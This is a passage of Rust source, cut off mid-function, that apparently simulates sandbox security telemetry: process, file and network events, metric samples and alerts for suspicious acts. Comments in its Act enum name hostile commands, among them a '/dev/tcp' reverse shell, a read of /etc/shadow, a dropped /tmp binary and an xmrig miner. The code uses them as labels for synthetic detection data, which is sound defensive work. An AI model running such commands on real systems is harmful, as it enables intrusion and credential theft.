//! One sandbox's life, as rows in time order: its lifecycle (`sandboxes`), its process trees
//! (`process_events`), what they open, connect and ask for (`file_events`, `network_events`,
//! `syscall_events`), its metric samples, and the alerts its suspicious acts raise.
//!
//! A sandbox is given a budget of event rows up front, and spends exactly that: each command's
//! root process (a shell or an agent) keeps working until its share is spent, children run
//! inside it, and every live process keeps one row in reserve for its exit. So the log has
//! exactly the events asked for, and every process that starts also ends.

use std::{borrow::Cow, collections::VecDeque, rc::Rc};

use sandwatch_schema::SandboxLifecycle;

use crate::{
    rng::{Rng, Zipf},
    vocab::*,
};

pub const SEC: i64 = 1_000_000_000;
pub const MS: i64 = 1_000_000;
pub const US: i64 = 1_000;

pub type Text = Cow<'static, str>;

/// What ends a sandbox besides its commands finishing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    Normal,
    /// The wall-clock limit: every process is killed.
    Timeout,
    /// The memory limit: the kernel's OOM killer, then the runner kills the rest.
    Oom,
}

/// Something a job does that a rule raises an alert on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Act {
    /// Downloads a binary to /tmp and runs it.
    TmpBinary,
    /// `cat /etc/shadow`.
    ShadowRead,
    /// Appends to /etc/hosts, and it works (a permissive sandbox).
    EtcWrite,
    /// `bash -i >& /dev/tcp/...`.
    ReverseShell,
    /// `sudo` as a non-root user.
    Sudo,
    /// A server listening on all interfaces.
    Listener,
    /// A miner started: the rule kills the sandbox.
    Miner,
    /// setuid(0) as a non-root user: the rule kills the sandbox.
    SetuidRoot,
}

impl Act {
    pub fn kills(self) -> bool {
        matches!(self, Act::Miner | Act::SetuidRoot)
    }
}

/// A sandbox as planned before it runs (all of it from the seed).
pub struct Spec {
    pub id: String,
    pub profile: &'static Profile,
    pub policy_hash: Rc<str>,
    pub start_ns: i64,
    /// Event rows (the four event tables) it writes.
    pub budget: u64,
    /// Event rows per second while it works.
    pub rate: f64,
    pub cgroup_id: u64,
    pub seed: u64,
    pub commands: u32,
    pub end: End,
    pub acts: Vec<Act>,
}

/// The common part of an event row.
pub struct Ev {
    pub time: i64,
    pub pid: u32,
    pub tid: u32,
    pub ppid: u32,
    pub comm: Rc<str>,
    pub exe: Rc<str>,
    pub event: &'static str,
    /// None for `exit`, which is no syscall.
    pub ret: Option<i64>,
    /// The alert this row raises.
    pub alert: Option<Box<AlertSpec>>,
}

pub struct AlertSpec {
    pub rule: &'static str,
    pub priority: &'static str,
    pub tags: &'static [&'static str],
    pub actions: &'static [&'static str],
    pub output: String,
    pub fields: String,
    /// From the event to the alert.
    pub latency_ns: i64,
}

pub struct ExecFacts {
    pub written_in_sandbox: bool,
    pub ctime_ns: i64,
}

pub enum Row {
    Process {
        ev: Ev,
        filename: Option<Rc<str>>,
        argv: Option<Rc<[u8]>>,
        cwd: Option<&'static str>,
        child_pid: Option<u32>,
        clone_flags: Option<u64>,
        exit_code: Option<i32>,
        exit_signal: Option<i32>,
        id_args: Option<[i64; 1]>,
        /// kill family: the target pid and the signal.
        target: Option<(i64, i32)>,
        facts: Option<ExecFacts>,
    },
    File {
        ev: Ev,
        path: Text,
        path2: Option<Text>,
        flags: Option<i64>,
        flags_text: Option<&'static str>,
        mode: Option<u32>,
    },
    Network {
        ev: Ev,
        fd: i64,
        family: &'static str,
        sock_type: &'static str,
        protocol: &'static str,
        saddr: Option<&'static str>,
        sport: Option<u16>,
        daddr: Option<Rc<str>>,
        dport: Option<u16>,
        bytes: Option<i64>,
    },
    Syscall {
        ev: Ev,
        args: Option<[u64; 6]>,
        refused: bool,
    },
    Lifecycle {
        time: i64,
        event: SandboxLifecycle,
        command: Option<Rc<str>>,
        exit_code: Option<i32>,
        signal: Option<i32>,
        reason: Option<&'static str>,
    },
    Metrics {
        time: i64,
        cpu_percent: f64,
        memory_bytes: u64,
        memory_limit_bytes: u64,
        disk_bytes: u64,
        network_bytes: Option<(u64, u64)>,
        processes: u32,
        fds: u32,
    },
}

impl Row {
    pub fn time(&self) -> i64 {
        match self {
            Row::Process { ev, .. }
            | Row::File { ev, .. }
            | Row::Network { ev, .. }
            | Row::Syscall { ev, .. } => ev.time,
            Row::Lifecycle { time, .. } | Row::Metrics { time, .. } => *time,
        }
    }

    pub fn is_event(&self) -> bool {
        matches!(
            self,
            Row::Process { .. } | Row::File { .. } | Row::Network { .. } | Row::Syscall { .. }
        )
    }
}

/// What every sandbox of a host shares: the host's pid counter and the destinations.
pub struct HostState {
    next_pid: u32,
    pub destinations: Rc<[(Rc<str>, u16)]>,
    pub zipf: Rc<Zipf>,
}

impl HostState {
    pub fn new(first_pid: u32, destinations: Rc<[(Rc<str>, u16)]>, zipf: Rc<Zipf>) -> Self {
        Self {
            next_pid: first_pid,
            destinations,
            zipf,
        }
    }

    /// The next host pid (or tid): the kernel hands them out in order and wraps at pid_max.
    fn pid(&mut self) -> u32 {
        let pid = self.next_pid;
        self.next_pid = if pid >= 4_194_303 { 300 } else { pid + 1 };
        pid
    }
}

/// Every destination of the log: the head, then a tail of public addresses, deterministic.
pub fn destinations(n: usize) -> Vec<(Rc<str>, u16)> {
    let mut out: Vec<(Rc<str>, u16)> = HEAD_DESTINATIONS
        .iter()
        .map(|(a, p)| (Rc::from(*a), *p))
        .collect();
    // A fixed seed: the same addresses whatever the log's seed, as the same services are.
    let mut rng = Rng::new(0x5EED_DE57);
    const FIRST_OCTETS: [u8; 12] = [13, 18, 23, 34, 35, 44, 52, 54, 91, 104, 172, 185];
    while out.len() < n {
        let a = format!(
            "{}.{}.{}.{}",
            rng.pick(&FIRST_OCTETS),
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        );
        let port = match rng.below(20) {
            0..=14 => 443,
            15 | 16 => 80,
            17 => 8443,
            18 => 22,
            _ => 1024 + rng.below(50_000) as u16,
        };
        out.push((Rc::from(a), port));
    }
    out
}

/// Whence an open comes, and its flags.
const RDONLY_CLOEXEC: (i64, &str) = (0o2000000, "O_RDONLY|O_CLOEXEC");
const RDONLY: (i64, &str) = (0, "O_RDONLY");
const RDONLY_DIR: (i64, &str) = (0o2204000, "O_RDONLY|O_NONBLOCK|O_DIRECTORY|O_CLOEXEC");
const WRITE_TRUNC: (i64, &str) = (0o2001101, "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC");
const WRITE_APPEND: (i64, &str) = (0o2101, "O_WRONLY|O_CREAT|O_APPEND");
const RDWR_EXCL: (i64, &str) = (0o2000302, "O_RDWR|O_CREAT|O_EXCL|O_CLOEXEC");

const ENOENT: i64 = -2;
const EACCES: i64 = -13;
const EROFS: i64 = -30;
const EPERM: i64 = -1;
const ENXIO: i64 = -6;
const EINPROGRESS: i64 = -115;
const ECONNREFUSED: i64 = -111;
const ENETUNREACH: i64 = -101;

/// glibc's fork: CLONE_CHILD_SETTID | CLONE_CHILD_CLEARTID | SIGCHLD.
const FORK_FLAGS: u64 = 0x0120_0011;
/// posix_spawn / vfork: CLONE_VM | CLONE_VFORK | SIGCHLD.
const VFORK_FLAGS: u64 = 0x4111;
/// A pthread: CLONE_VM | FS | FILES | SIGHAND | THREAD | SYSVSEM | SETTLS | PARENT_SETTID |
/// CHILD_CLEARTID.
const THREAD_FLAGS: u64 = 0x003d_0f00;

/// System binaries' inode change time (the image's build).
const IMAGE_CTIME_NS: i64 = 1_792_051_920 * SEC;

const INIT_COMM: &str = "sandwatch-init";
const INIT_EXE: &str = "/usr/local/bin/sandwatch";

const MINER: Program = Program {
    name: "xmrig",
    path: "/workspace/.bin/xmrig",
    exe: "/workspace/.bin/xmrig",
    kind: Kind::Suspicious,
    steps: (6.0, 0.3),
};
const DROPPED: Program = Program {
    name: "upd",
    path: "/tmp/.cache/upd",
    exe: "/tmp/.cache/upd",
    kind: Kind::Suspicious,
    steps: (6.0, 0.3),
};

struct Proc {
    pid: u32,
    ns_pid: u32,
    ppid: u32,
    comm: Rc<str>,
    exe: Rc<str>,
    program: &'static Program,
    /// Host tids of its other threads.
    threads: Vec<u32>,
    /// Work steps left; u32::MAX for a command's root, which works until the budget is spent.
    steps_left: u32,
    started: bool,
    next_fd: i64,
    /// Work this process does first, before its ordinary steps (an act's payload).
    payload: Option<Act>,
    exit_code: i32,
    /// A compiler driver's passes started so far, and whether it links too (cc1, as[, ld]).
    passes: u8,
    links: bool,
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Stage {
    Create,
    CommandStart,
    Running,
    CommandEnd,
    Ending,
    Done,
}

/// One sandbox's rows, produced lazily in time order.
pub struct Sim {
    pub spec: Spec,
    rng: Rng,
    now: i64,
    rows: VecDeque<Row>,
    stage: Stage,
    next_metrics: Option<i64>,
    /// No sample at or after this time (the sandbox's destruction).
    metrics_end: i64,
    /// Event rows the running command may still write (exits of live processes included).
    cmd_left: u64,
    /// Event rows of the commands after this one and of init's exit.
    later: u64,
    commands_left: u32,
    command: Rc<str>,
    procs: Vec<Proc>,
    init_pid: u32,
    init_ppid: u32,
    init_comm: Rc<str>,
    init_exe: Rc<str>,
    ns_next: u32,
    /// Non-killing acts still to do, at these shares of the sandbox's budget.
    acts: Vec<(u64, Act)>,
    kill_act: Option<Act>,
    /// Set once the sandbox is being killed: the signal its processes die of, and why.
    dying: Option<(i32, &'static str)>,
    killed_row_written: bool,
    root_exit: i32,
    /// One PATH entry before /usr/bin (sh tries it first and gets ENOENT).
    path_miss: bool,
    mean_gap_ns: f64,
    // For the metric samples.
    disk: u64,
    rx: u64,
    tx: u64,
    memory: u64,
    emitted: u64,
}

impl Sim {
    pub fn new(spec: Spec, host: &mut HostState) -> Self {
        let mut rng = Rng::new(spec.seed);
        let per_command = (spec.budget - 1) / u64::from(spec.commands);
        let first = spec.budget - 1 - per_command * u64::from(spec.commands - 1);
        let mut acts: Vec<(u64, Act)> = Vec::new();
        let mut kill_act = None;
        for &a in &spec.acts {
            if a.kills() {
                kill_act = Some(a);
            } else {
                acts.push((rng.below(spec.budget.max(1)), a));
            }
        }
        acts.sort_by_key(|(at, _)| std::cmp::Reverse(*at));
        let init_pid = host.pid();
        let mean_gap_ns = SEC as f64 / spec.rate;
        Self {
            now: spec.start_ns,
            rows: VecDeque::new(),
            stage: Stage::Create,
            next_metrics: None,
            metrics_end: i64::MAX,
            cmd_left: first,
            later: spec.budget - first,
            commands_left: spec.commands,
            command: Rc::from(spec.profile.command),
            procs: Vec::new(),
            init_pid,
            // The runner's zygote, outside the sandbox.
            init_ppid: init_pid.saturating_sub(1 + rng.below(3) as u32).max(2),
            init_comm: Rc::from(INIT_COMM),
            init_exe: Rc::from(INIT_EXE),
            ns_next: 2,
            acts,
            kill_act,
            dying: None,
            killed_row_written: false,
            root_exit: 0,
            path_miss: rng.chance(0.5),
            mean_gap_ns,
            disk: 4096 * (1 + rng.below(64)),
            rx: 0,
            tx: 0,
            memory: (4 + rng.below(8)) << 20,
            emitted: 0,
            rng,
            spec,
        }
    }

    /// The time of the next row, or None when the sandbox is done.
    pub fn next_time(&mut self, host: &mut HostState) -> Option<i64> {
        while self.rows.is_empty() && self.stage != Stage::Done {
            self.refill(host);
        }
        let front = self.rows.front().map(Row::time);
        match (front, self.due_metrics()) {
            (Some(f), Some(m)) => Some(f.min(m)),
            (f, m) => f.or(m),
        }
    }

    fn due_metrics(&self) -> Option<i64> {
        self.next_metrics.filter(|m| *m < self.metrics_end)
    }

    /// The next row (call `next_time` first).
    pub fn pop(&mut self) -> Option<Row> {
        let front = self.rows.front().map(Row::time);
        if let Some(m) = self.due_metrics()
            && front.is_none_or(|f| m < f)
        {
            self.next_metrics = Some(m + SEC);
            return Some(self.metrics_row(m));
        }
        self.rows.pop_front()
    }

    fn metrics_row(&mut self, time: i64) -> Row {
        let limit = self.spec.profile.memory_limit_mb << 20;
        let target = limit / 4 + (self.procs.len() as u64) * (24 << 20);
        self.memory = ((self.memory * 7 + target.min(limit)) / 8).min(limit);
        Row::Metrics {
            time,
            cpu_percent: if self.procs.is_empty() {
                0.3 * self.rng.unit()
            } else {
                (self.rng.lognormal(45.0, 0.6)).min(200.0)
            },
            memory_bytes: self.memory,
            memory_limit_bytes: limit,
            disk_bytes: self.disk,
            network_bytes: Some((self.rx, self.tx)),
            processes: self.procs.len() as u32 + 1,
            fds: 4 + self
                .procs
                .iter()
                .map(|p| (p.next_fd - 3) as u32 + 3)
                .sum::<u32>(),
        }
    }

    // -----------------------------------------------------------------------------------------
    // Time

    /// Advances the clock by a gap typical of this sandbox's pace (`scale` 1 = a work step).
    fn tick(&mut self, scale: f64) -> i64 {
        let gap = self.rng.exp(self.mean_gap_ns * scale) as i64;
        self.now += US + gap;
        self.now
    }

    /// A burst: rows microseconds apart (a loader, a syscall sequence).
    fn burst(&mut self) -> i64 {
        self.now += US + self.rng.below(60) as i64 * US;
        self.now
    }

    // -----------------------------------------------------------------------------------------
    // Budget

    fn reserve(&self) -> u64 {
        self.procs.iter().map(|p| 1 + p.threads.len() as u64).sum()
    }

    /// Rows the running command can still spend on work.
    fn free(&self) -> u64 {
        self.cmd_left - self.reserve()
    }

    fn push_event(&mut self, row: Row) {
        debug_assert!(row.is_event());
        debug_assert!(self.cmd_left > 0, "{} over budget", self.spec.id);
        self.cmd_left -= 1;
        self.emitted += 1;
        self.rows.push_back(row);
    }

    // -----------------------------------------------------------------------------------------
    // Stages

    fn refill(&mut self, host: &mut HostState) {
        match self.stage {
            Stage::Create => {
                self.rows.push_back(Row::Lifecycle {
                    time: self.now,
                    event: SandboxLifecycle::Created,
                    command: None,
                    exit_code: None,
                    signal: None,
                    reason: None,
                });
                self.next_metrics = Some(self.now + SEC);
                self.now += 3 * MS + self.rng.below(12) as i64 * MS;
                self.stage = Stage::CommandStart;
            }
            Stage::CommandStart => self.start_command(host),
            Stage::Running => self.step(host),
            Stage::CommandEnd => {
                self.now += US * (200 + self.rng.below(3000) as i64);
                let signal = self.dying.map(|(s, _)| s);
                self.rows.push_back(Row::Lifecycle {
                    time: self.now,
                    event: SandboxLifecycle::Exited,
                    command: Some(self.command.clone()),
                    exit_code: signal.is_none().then_some(self.root_exit),
                    signal,
                    reason: None,
                });
                self.commands_left -= 1;
                if self.commands_left > 0 && self.dying.is_none() {
                    let per_command = self.later.saturating_sub(1) / u64::from(self.commands_left);
                    self.cmd_left = per_command;
                    self.later -= per_command;
                    self.now += self.rng.lognormal(2.0 * SEC as f64, 1.0) as i64;
                    self.stage = Stage::CommandStart;
                } else {
                    // A killed sandbox's later commands never run: their rows go to init's
                    // last words below, so the sandbox still writes its budget.
                    self.cmd_left = self.later;
                    self.later = 0;
                    self.stage = Stage::Ending;
                }
            }
            Stage::Ending => {
                // Whatever budget a kill left unspent: init's reaping of its children.
                while self.cmd_left > 1 {
                    let t = self.burst();
                    let ev = self.init_ev(t, "kill", Some(0));
                    let target = self.rng.below(u64::from(self.ns_next)).max(2) as i64;
                    self.push_event(Row::Process {
                        ev,
                        filename: None,
                        argv: None,
                        cwd: None,
                        child_pid: None,
                        clone_flags: None,
                        exit_code: None,
                        exit_signal: None,
                        id_args: None,
                        target: Some((target, 9)),
                        facts: None,
                    });
                }
                self.now += 20 * MS + self.rng.below(150) as i64 * MS;
                let ev = Ev {
                    time: self.now,
                    pid: self.init_pid,
                    tid: self.init_pid,
                    ppid: self.init_ppid,
                    comm: self.init_comm.clone(),
                    exe: self.init_exe.clone(),
                    event: "exit",
                    ret: None,
                    alert: None,
                };
                self.push_event(Row::Process {
                    ev,
                    filename: None,
                    argv: None,
                    cwd: None,
                    child_pid: None,
                    clone_flags: None,
                    exit_code: Some(0),
                    exit_signal: None,
                    id_args: None,
                    target: None,
                    facts: None,
                });
                self.now += 2 * MS + self.rng.below(8) as i64 * MS;
                self.rows.push_back(Row::Lifecycle {
                    time: self.now,
                    event: SandboxLifecycle::Destroyed,
                    command: None,
                    exit_code: None,
                    signal: None,
                    reason: None,
                });
                self.metrics_end = self.now;
                debug_assert_eq!(self.emitted, self.spec.budget, "{}", self.spec.id);
                self.stage = Stage::Done;
            }
            Stage::Done => {}
        }
    }

    fn init_ev(&self, time: i64, event: &'static str, ret: Option<i64>) -> Ev {
        Ev {
            time,
            pid: self.init_pid,
            tid: self.init_pid,
            ppid: self.init_ppid,
            comm: self.init_comm.clone(),
            exe: self.init_exe.clone(),
            event,
            ret,
            alert: None,
        }
    }

    fn start_command(&mut self, host: &mut HostState) {
        self.rows.push_back(Row::Lifecycle {
            time: self.now,
            event: SandboxLifecycle::Started,
            command: Some(self.command.clone()),
            exit_code: None,
            signal: None,
            reason: None,
        });
        // init forks the command.
        let ns_pid = self.ns_pid();
        let t = self.burst();
        let ev = self.init_ev(t, "clone", Some(i64::from(ns_pid)));
        self.push_event(Row::Process {
            ev,
            filename: None,
            argv: None,
            cwd: None,
            child_pid: Some(ns_pid),
            clone_flags: Some(FORK_FLAGS),
            exit_code: None,
            exit_signal: None,
            id_args: None,
            target: None,
            facts: None,
        });
        let profile = self.spec.profile;
        let (program, argv): (&'static Program, Vec<String>) = match profile.command.split_once(' ')
        {
            Some(("sh", rest)) => (
                &SH,
                vec![
                    "sh".into(),
                    "-c".into(),
                    rest.trim_start_matches("-c ").into(),
                ],
            ),
            Some(("bash", rest)) => (&BASH, vec!["bash".into(), rest.into()]),
            _ => (
                &PYTHON,
                profile.command.split(' ').map(str::to_owned).collect(),
            ),
        };
        let parent = Parent {
            pid: self.init_pid,
            comm: self.init_comm.clone(),
            exe: self.init_exe.clone(),
        };
        self.exec_child(host, parent, ns_pid, program, &argv, false, None);
        let root = self.procs.last_mut().expect("just started");
        root.steps_left = u32::MAX;
        self.root_exit = match self.rng.below(100) {
            0..=84 => 0,
            85..=96 => 1,
            _ => 2,
        };
        self.stage = Stage::Running;
    }

    fn ns_pid(&mut self) -> u32 {
        let p = self.ns_next;
        self.ns_next += 1;
        p
    }

    /// A child's exec (after its parent's clone row): PATH misses, the exec, and its process.
    #[allow(clippy::too_many_arguments)]
    fn exec_child(
        &mut self,
        host: &mut HostState,
        parent: Parent,
        ns_pid: u32,
        program: &'static Program,
        argv: &[String],
        by_name: bool,
        alert: Option<Box<AlertSpec>>,
    ) {
        let pid = host.pid();
        let mut argv_bytes = Vec::with_capacity(argv.iter().map(|a| a.len() + 1).sum());
        for a in argv {
            argv_bytes.extend_from_slice(a.as_bytes());
            argv_bytes.push(0);
        }
        let argv_bytes: Rc<[u8]> = Rc::from(argv_bytes);
        if by_name && self.path_miss && program.path.starts_with("/usr/bin/") && self.free() > 3 {
            let t = self.burst();
            let missed = format!("/usr/local/bin/{}", program.name);
            self.push_event(Row::Process {
                ev: Ev {
                    time: t,
                    pid,
                    tid: pid,
                    ppid: parent.pid,
                    comm: parent.comm.clone(),
                    exe: parent.exe.clone(),
                    event: "execve",
                    ret: Some(ENOENT),
                    alert: None,
                },
                filename: Some(Rc::from(missed)),
                argv: Some(argv_bytes.clone()),
                cwd: None,
                child_pid: None,
                clone_flags: None,
                exit_code: None,
                exit_signal: None,
                id_args: None,
                target: None,
                facts: None,
            });
        }
        let t = self.burst();
        let comm: Rc<str> = Rc::from(&program.name[..program.name.len().min(15)]);
        let exe: Rc<str> = Rc::from(program.exe);
        let written = !program.path.starts_with("/usr/") && !program.path.starts_with("/bin/");
        self.push_event(Row::Process {
            ev: Ev {
                time: t,
                pid,
                tid: pid,
                ppid: parent.pid,
                comm: comm.clone(),
                exe: exe.clone(),
                event: "execve",
                ret: Some(0),
                alert,
            },
            filename: Some(Rc::from(program.path)),
            argv: Some(argv_bytes),
            cwd: Some("/workspace"),
            child_pid: None,
            clone_flags: None,
            exit_code: None,
            exit_signal: None,
            id_args: None,
            target: None,
            facts: Some(ExecFacts {
                written_in_sandbox: written,
                ctime_ns: if written { t - 50 * MS } else { IMAGE_CTIME_NS },
            }),
        });
        let steps = self
            .rng
            .lognormal(program.steps.0, program.steps.1)
            .clamp(0.0, 50_000.0) as u32;
        self.procs.push(Proc {
            pid,
            ns_pid,
            ppid: parent.pid,
            comm,
            exe,
            program,
            threads: Vec::new(),
            steps_left: steps,
            started: false,
            next_fd: 3,
            payload: None,
            exit_code: match program.kind {
                Kind::Coreutil if program.name == "grep" => i32::from(self.rng.chance(0.3)),
                Kind::Suspicious => 1,
                _ => i32::from(self.rng.chance(0.03)),
            },
            passes: 0,
            links: self.rng.chance(0.3),
        });
    }

    // -----------------------------------------------------------------------------------------
    // Work

    fn step(&mut self, host: &mut HostState) {
        if self.procs.is_empty() {
            self.stage = Stage::CommandEnd;
            return;
        }
        let free = self.free();
        let last_command = self.commands_left == 1;
        if self.dying.is_none() && last_command && free <= 24 {
            if let Some(act) = self.kill_act.take()
                && free >= 8
            {
                self.act(host, act);
                return;
            }
            if free == 0 && self.spec.end != End::Normal {
                self.dying = Some((
                    9,
                    if self.spec.end == End::Timeout {
                        "timeout"
                    } else {
                        "oom"
                    },
                ));
            }
        }
        if free == 0 {
            self.exit_top();
            return;
        }
        let top = self.procs.len() - 1;
        if !self.procs[top].started {
            self.startup(top);
            return;
        }
        if let Some(act) = self.procs[top].payload.take() {
            self.payload(top, act);
            return;
        }
        if self.dying.is_some() {
            // The victim's last rows before the kill lands.
            self.file_read(top, FileKind::Workspace);
            return;
        }
        if self.procs[top].steps_left == 0 {
            self.exit_top();
            return;
        }
        if let Some(&(at, act)) = self.acts.last()
            && self.emitted >= at
            && free >= 12
        {
            self.acts.pop();
            self.act(host, act);
            return;
        }
        let p = &mut self.procs[top];
        if p.steps_left != u32::MAX {
            p.steps_left -= 1;
        }
        self.work(host, top);
    }

    /// The loader's opens and the program's own start-up reads.
    fn startup(&mut self, top: usize) {
        self.procs[top].started = true;
        let kind = self.procs[top].program.kind;
        let statically_linked = kind == Kind::Suspicious;
        let mut n = if statically_linked {
            0
        } else {
            3 + self.rng.below(6) as usize
        };
        n = n.min(self.free() as usize);
        for i in 0..n {
            let t = self.burst();
            if i < 2 && self.rng.chance(0.7) {
                let path = *self.rng.pick(&LOADER_MISSES);
                self.open(
                    top,
                    t,
                    Cow::Borrowed(path),
                    RDONLY_CLOEXEC,
                    None,
                    Some(ENOENT),
                );
            } else {
                let path = if i == 0 {
                    LIBS[0]
                } else {
                    *self.rng.pick(&LIBS)
                };
                self.open(top, t, Cow::Borrowed(path), RDONLY_CLOEXEC, None, None);
            }
        }
        if kind == Kind::Node && self.free() > 0 {
            // libuv probes io_uring; the sandbox's seccomp filter refuses it.
            let t = self.burst();
            let ev = self.ev(top, t, "io_uring_setup", Some(EPERM));
            self.push_event(Row::Syscall {
                ev,
                args: Some([64, 0x7ffc_3b2e_1a40, 0, 0, 0, 0]),
                refused: true,
            });
        }
    }

    fn ev(&mut self, top: usize, time: i64, event: &'static str, ret: Option<i64>) -> Ev {
        let p = &self.procs[top];
        let tid = if !p.threads.is_empty() && self.rng.chance(0.3) {
            *self.rng.pick(&p.threads)
        } else {
            p.pid
        };
        Ev {
            time,
            pid: p.pid,
            tid,
            ppid: p.ppid,
            comm: p.comm.clone(),
            exe: p.exe.clone(),
            event,
            ret,
            alert: None,
        }
    }

    fn fd(&mut self, top: usize) -> i64 {
        let p = &mut self.procs[top];
        let fd = p.next_fd;
        p.next_fd = if fd >= 40 { 3 } else { fd + 1 };
        fd
    }

    /// An openat row; `ret` None = a new descriptor.
    fn open(
        &mut self,
        top: usize,
        time: i64,
        path: Text,
        (flags, flags_text): (i64, &'static str),
        mode: Option<u32>,
        ret: Option<i64>,
    ) -> i64 {
        let ret = ret.unwrap_or_else(|| self.fd(top));
        let ev = self.ev(top, time, "openat", Some(ret));
        self.push_event(Row::File {
            ev,
            path,
            path2: None,
            flags: Some(flags),
            flags_text: Some(flags_text),
            mode,
        });
        ret
    }

    fn exit_top(&mut self) {
        let p = self.procs.pop().expect("a live process");
        let signal = self.dying.map(|(s, _)| s);
        if let Some((sig, reason)) = self.dying
            && !self.killed_row_written
        {
            self.killed_row_written = true;
            self.now += 2 * MS + self.rng.below(3000) as i64 * US;
            self.rows.push_back(Row::Lifecycle {
                time: self.now,
                event: SandboxLifecycle::Killed,
                command: Some(self.command.clone()),
                exit_code: None,
                signal: Some(sig),
                reason: Some(reason),
            });
        }
        // The process's threads end first, then its main thread.
        let mut tids = p.threads.clone();
        tids.push(p.pid);
        for tid in tids {
            let t = if signal.is_some() {
                self.burst()
            } else {
                self.tick(0.2)
            };
            self.push_event(Row::Process {
                ev: Ev {
                    time: t,
                    pid: p.pid,
                    tid,
                    ppid: p.ppid,
                    comm: p.comm.clone(),
                    exe: p.exe.clone(),
                    event: "exit",
                    ret: None,
                    alert: None,
                },
                filename: None,
                argv: None,
                cwd: None,
                child_pid: None,
                clone_flags: None,
                exit_code: signal.is_none().then_some(p.exit_code),
                exit_signal: signal,
                id_args: None,
                target: None,
                facts: None,
            });
        }
        if self.procs.is_empty() && signal.is_none() {
            self.root_exit = if p.exit_code != 0 {
                p.exit_code
            } else {
                self.root_exit
            };
        }
    }

    fn work(&mut self, host: &mut HostState, top: usize) {
        let kind = self.procs[top].program.kind;
        let network = self.spec.profile.network;
        let net_weight = if network { 1 } else { 0 };
        // Weights per kind: file reads dominate, as in any real log.
        let choice = match kind {
            Kind::Shell => *self.rng.weighted(&[
                (Step::Spawn, 60),
                (Step::Read(FileKind::Workspace), 12),
                (Step::Write, 6),
                (Step::Read(FileKind::Etc), 4),
                (Step::EtcWrite, 1),
                (Step::Read(FileKind::Dev), 3),
                (Step::Meta, 3),
            ]),
            Kind::Python => *self.rng.weighted(&[
                (Step::Read(FileKind::PyModule), 300),
                (Step::Read(FileKind::PyPackage), 250),
                (Step::Read(FileKind::Workspace), 130),
                (Step::Write, 60),
                (Step::Meta, 20),
                (Step::Tmp, 20),
                (Step::Read(FileKind::Etc), 25),
                (Step::EtcWrite, 1),
                (Step::Read(FileKind::Proc), 20),
                (Step::Read(FileKind::Dev), 10),
                (Step::Connect, 4 + 36 * net_weight),
                (Step::Spawn, 8),
                (Step::Thread, 3),
                (Step::Sensitive, 1),
            ]),
            Kind::Pip => *self.rng.weighted(&[
                (Step::Read(FileKind::PyPackage), 250),
                (Step::InstallPy, 200),
                (Step::Read(FileKind::PyModule), 200),
                (Step::Tmp, 100),
                (Step::Meta, 50),
                (Step::Connect, 5 + 55 * net_weight),
                (Step::Read(FileKind::Etc), 20),
                (Step::EtcWrite, 2),
                (Step::Spawn, 2),
            ]),
            Kind::Node => *self.rng.weighted(&[
                (Step::Read(FileKind::NodeModule), 500),
                (Step::Read(FileKind::Workspace), 150),
                (Step::Write, 50),
                (Step::Connect, 5 + 45 * net_weight),
                (Step::Thread, 5),
                (Step::Read(FileKind::Proc), 20),
                (Step::Read(FileKind::Etc), 20),
                (Step::Spawn, 5),
            ]),
            Kind::Npm => *self.rng.weighted(&[
                (Step::Read(FileKind::NodeModule), 400),
                (Step::InstallNode, 150),
                (Step::Tmp, 100),
                (Step::Meta, 80),
                (Step::Connect, 8 + 72 * net_weight),
                (Step::Read(FileKind::Etc), 20),
                (Step::Spawn, 5),
            ]),
            Kind::Git => *self.rng.weighted(&[
                (Step::Read(FileKind::GitObject), 300),
                (Step::Read(FileKind::Workspace), 120),
                (Step::Write, 100),
                (Step::Meta, 50),
                (Step::Read(FileKind::Etc), 30),
                (Step::Connect, 2 + 18 * net_weight),
                (Step::Spawn, 3),
            ]),
            Kind::Compiler => *self.rng.weighted(&[
                (Step::Spawn, 50),
                (Step::Tmp, 30),
                (Step::Read(FileKind::Workspace), 20),
            ]),
            Kind::CompilerPass => *self.rng.weighted(&[
                (Step::Read(FileKind::Header), 600),
                (Step::Read(FileKind::Workspace), 100),
                (Step::Tmp, 150),
                (Step::Write, 100),
            ]),
            Kind::Make => *self.rng.weighted(&[
                (Step::Read(FileKind::Workspace), 300),
                (Step::Spawn, 400),
                (Step::Meta, 100),
            ]),
            Kind::Coreutil => *self.rng.weighted(&[
                (Step::Read(FileKind::Workspace), 500),
                (Step::Write, 150),
                (Step::Meta, 150),
                (Step::Read(FileKind::Etc), 100),
                (Step::Read(FileKind::Dev), 50),
            ]),
            Kind::Fetch => *self.rng.weighted(&[
                (Step::Connect, 10 + 290 * net_weight),
                (Step::Write, 300),
                (Step::Read(FileKind::Etc), 200),
                (Step::Tmp, 100),
            ]),
            Kind::Suspicious => *self.rng.weighted(&[
                (Step::Connect, 300),
                (Step::Read(FileKind::Proc), 300),
                (Step::Read(FileKind::Etc), 200),
            ]),
        };
        match choice {
            Step::Read(kind) => self.file_read(top, kind),
            Step::Write => self.file_write(top),
            Step::EtcWrite => {
                self.etc_write(top, false);
            }
            Step::Meta => self.file_meta(top),
            Step::Tmp => self.tmp_file(top),
            Step::InstallPy | Step::InstallNode => self.install(top, choice == Step::InstallPy),
            Step::Connect => self.connect(host, top),
            Step::Spawn => self.spawn(host, top),
            Step::Thread => self.thread(host, top),
            Step::Sensitive => self.sensitive(top),
        }
    }

    fn workspace_path(&mut self) -> String {
        let dir = self.rng.pick(&WORKSPACE_DIRS);
        let name = self.rng.pick(&WORKSPACE_NAMES);
        let ext = self.rng.pick(&WORKSPACE_EXTS);
        let n = self.rng.below(40);
        if self.rng.chance(0.3) {
            // As the process gave it: relative to its cwd, /workspace.
            format!("{dir}/{name}{n}.{ext}")
        } else {
            format!("/workspace/{dir}/{name}{n}.{ext}")
        }
    }

    fn file_read(&mut self, top: usize, kind: FileKind) {
        let t = self.tick(if matches!(kind, FileKind::PyModule | FileKind::Header) {
            0.3
        } else {
            1.0
        });
        let mut ret = None;
        let mut flags = RDONLY_CLOEXEC;
        let path: Text = match kind {
            FileKind::Workspace => {
                if self.rng.chance(0.08) {
                    ret = Some(ENOENT);
                }
                Cow::Owned(self.workspace_path())
            }
            FileKind::PyModule => {
                let m = self.rng.pick(&PYTHON_MODULES);
                if self.rng.chance(0.15) && self.free() > 1 {
